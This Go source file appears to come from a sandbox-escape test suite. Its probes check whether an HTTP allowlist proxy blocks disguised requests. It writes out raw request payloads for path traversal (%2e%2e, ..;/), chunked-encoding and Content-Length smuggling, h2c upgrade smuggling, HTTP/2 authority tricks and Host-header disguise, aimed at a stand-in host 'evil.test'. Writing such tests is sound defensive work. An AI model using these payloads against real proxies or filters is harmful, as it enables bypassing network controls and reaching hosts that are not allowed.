package escape

import (
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"github.com/pccrun/pccrun/profiles"
)

// requestTest lets requests with two methods to some paths of one host through.
// It is a rule for plain HTTP, so that no certificate has to be trusted: what
// reads the requests is the same as for HTTPS.
var requestTest = []string{"--allow", "GET,POST http://allowed.test/v1/**"}

// requestProbes try requests, within connections that are allowed, which are
// not: those that a rule on method and path leaves out, and those in disguise.
func requestProbes() []Probe {
	inspected := func(id, name string, s Severity, why string, references []string, requests ...string) Probe {
		return Probe{
			ID: id, Name: name, Guarantee: profiles.NetAllowlist, Severity: s, Setting: Caged | Proxy, Flags: requestTest,
			Expect: "refused, or passed on as one request that the rule allows", References: references, Explain: why, Key: "network.allow",
			Payload: func(in *Inside) Outcome { return in.sendAll(requests) },
			Observe: onlyRequests("POST /v1/", "GET /v1/"),
		}
	}
	host := "Host: allowed.test\r\n"
	hidden := "GET /admin HTTP/1.1\r\nHost: evil.test\r\n\r\n"
	upload := "POST /v1/x HTTP/1.1\r\n" + host
	return []Probe{
		inspected("NET-041", "requests that a rule on method and path leaves out", Medium, "An allowed host takes whatever it is sent; a rule on method and path narrows that, in every spelling of them.", refs("vscode issue 297462"),
			"DELETE /v1/x HTTP/1.1\r\n"+host+"\r\n", "GET /admin HTTP/1.1\r\n"+host+"\r\n", "GET /v1/../admin HTTP/1.1\r\n"+host+"\r\n", "GET /v1/%2e%2e/admin HTTP/1.1\r\n"+host+"\r\n",
			"GET /v1%2f..%2fadmin HTTP/1.1\r\n"+host+"\r\n", "GET //admin HTTP/1.1\r\n"+host+"\r\n", "GET /v1/..;/admin HTTP/1.1\r\n"+host+"\r\n", "GET /v1/\\..\\admin HTTP/1.1\r\n"+host+"\r\n",
			"get /admin HTTP/1.1\r\n"+host+"\r\n", "LINK /admin HTTP/1.1\r\n"+host+"\r\n", "GET /admin?/v1/x HTTP/1.1\r\n"+host+"\r\n", "GET http://allowed.test/admin?x=http://allowed.test/v1/ HTTP/1.1\r\n"+host+"\r\n"),
		inspected("NET-030", "malformed chunks", Medium, "What one reader takes for the end of a body is within it for another: the rest is a request that nobody has judged.", refs("CVE-2025-22871"),
			upload+"Transfer-Encoding: chunked\r\n\r\n0\n\n"+hidden, upload+"Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\n0\r\n\r\n"+hidden, upload+"Transfer-Encoding: chunked\r\n\r\n-1\r\n"+hidden,
			upload+"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n"+hidden, upload+"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"+hidden, upload+"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"+hidden,
			upload+"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+hidden, upload+"Content-Length: 0\r\nContent-Length: 70\r\n\r\n"+hidden, upload+"Content-Length: +0\r\n\r\n"+hidden, upload+"Content-Length : 70\r\n\r\n"+hidden),
		inspected("NET-032", "an upgrade that changes the protocol", High, "After an upgrade nobody reads requests any more, unless the one who reads them refuses it: h2c names other hosts within.", refs("h2c smuggling"),
			"GET /v1/x HTTP/1.1\r\n"+host+"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAA\r\n\r\n"+hidden,
			"GET /v1/x HTTP/1.1\r\n"+host+"Connection: Upgrade\r\nUpgrade: TLS/1.0\r\n\r\n"+hidden, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"+hidden, "GET /v1/x HTTP/1.1\r\n"+host+"\r\n"+hidden),
		inspected("NET-033", "another authority within HTTP/2", Medium, "HTTP/2 by prior knowledge begins with a line of its own; the name of each request is within.", refs("RFC 9113, 3.3"),
			"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+hidden, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00\x00\x00\x16\x01\x05\x00\x00\x00\x01\x82\x86\x84\x41\x09evil.test\x44\x06/admin"),
		{ID: "NET-059", Name: "the beginning of a request that is not allowed", Guarantee: profiles.NetTransparent, Severity: Medium, Setting: Caged | Proxy, Flags: allowTest,
			Expect: "no byte reaches the server before its name is judged", Key: "network.allow",
			Explain: "A server that answers, or writes down, half of a request has received what the other half would have been denied for.",
			Payload: func(in *Inside) Outcome {
				c, err := net.DialTimeout("tcp", "allowed.test:80", patience(2*time.Second))
				blockedBy(err, "connect")
				defer c.Close()
				c.SetDeadline(time.Now().Add(patience(2 * time.Second)))
				for _, part := range []string{"GET /carries-data HTTP/1.1\r\n", "X-Data: canary\r\n", "Host: evil.test\r\n\r\n"} {
					if _, err := io.WriteString(c, part); err != nil {
						return Blocked("%v", cause(err))
					}
					time.Sleep(100 * time.Millisecond)
				}
				data, _ := io.ReadAll(io.LimitReader(c, 4096))
				return Blocked("%.80q", data)
			},
			Observe: hitDecides(`tcp 20.0.0.10:80 "GET /carries-data`)},
		{ID: "NET-060", Name: "a request for another host in disguise", Guarantee: profiles.NetTransparent, Severity: High, Setting: Caged | Proxy, Flags: allowTest,
			Expect: "refused: whatever a server may take for a request is read as one", References: refs("RFC 9112, 2.2"), Key: "network.allow",
			Explain: "Over a connection to an allowed name, in forms that servers understand and a reader of first bytes may not: another method, another version, empty lines, bare line ends, the host in the target.",
			Payload: func(in *Inside) Outcome {
				return in.sendAll([]string{
					"\r\n\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "LINK / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "get / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "GET  / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
					"GET / HTTP/1.2\r\nHost: evil.test\r\n\r\n", "GET / HTTP/1.1\nHost: evil.test\n\n", "GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
					strings.Repeat("A", 5000) + " / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n", "GET / HTTP/1.1\r\nHost:\x0bevil.test\r\n\r\n",
				})
			},
			Observe: hitDecides("host 20.0.0.10:80 evil.test", "request 20.0.0.10:80 GET http://evil.test")},
	}
}

// sendAll sends texts to port 80 of the allowed host, each by a connection of
// its own, as a program without proxy settings does. What arrives there decides.
func (in *Inside) sendAll(texts []string) Outcome {
	got := 0
	var last string
	for _, text := range texts {
		c, err := net.DialTimeout("tcp", "allowed.test:80", patience(2*time.Second))
		blockedBy(err, "connect")
		c.SetDeadline(time.Now().Add(patience(300 * time.Millisecond)))
		if _, err := io.WriteString(c, text); err == nil {
			data, _ := io.ReadAll(io.LimitReader(c, 4096))
			if last = fmt.Sprintf("%.60q", data); len(data) > 0 {
				got++
			}
		}
		c.Close()
	}
	return Blocked("%d of %d were answered, the last %s", got, len(texts), last)
}

// onlyRequests lets what the allowed host was asked decide: anything but
// requests that begin so, and stay below, has passed the rule by.
func onlyRequests(allowed ...string) func(*Outside, Outcome) Outcome {
	return func(out *Outside, o Outcome) Outcome {
		time.Sleep(20 * time.Millisecond)
		for _, hit := range append(out.Hits("request 20.0.0.10:80 "), out.Hits("request 20.0.0.66")...) {
			line := strings.TrimPrefix(hit, "request 20.0.0.10:80 ")
			within := false
			for _, prefix := range allowed {
				within = within || strings.HasPrefix(line, prefix)
			}
			if lower := strings.ToLower(line); !within || strings.Contains(lower, "..") || strings.Contains(lower, "%2e") || strings.Contains(lower, "\\") {
				return Escaped("the server was asked: %q", line)
			}
		}
		if hits := out.Hits("host 20.0.0.10:80 evil.test"); len(hits) > 0 {
			return Escaped("arrived outside: %s", hits[0])
		}
		return o
	}
}
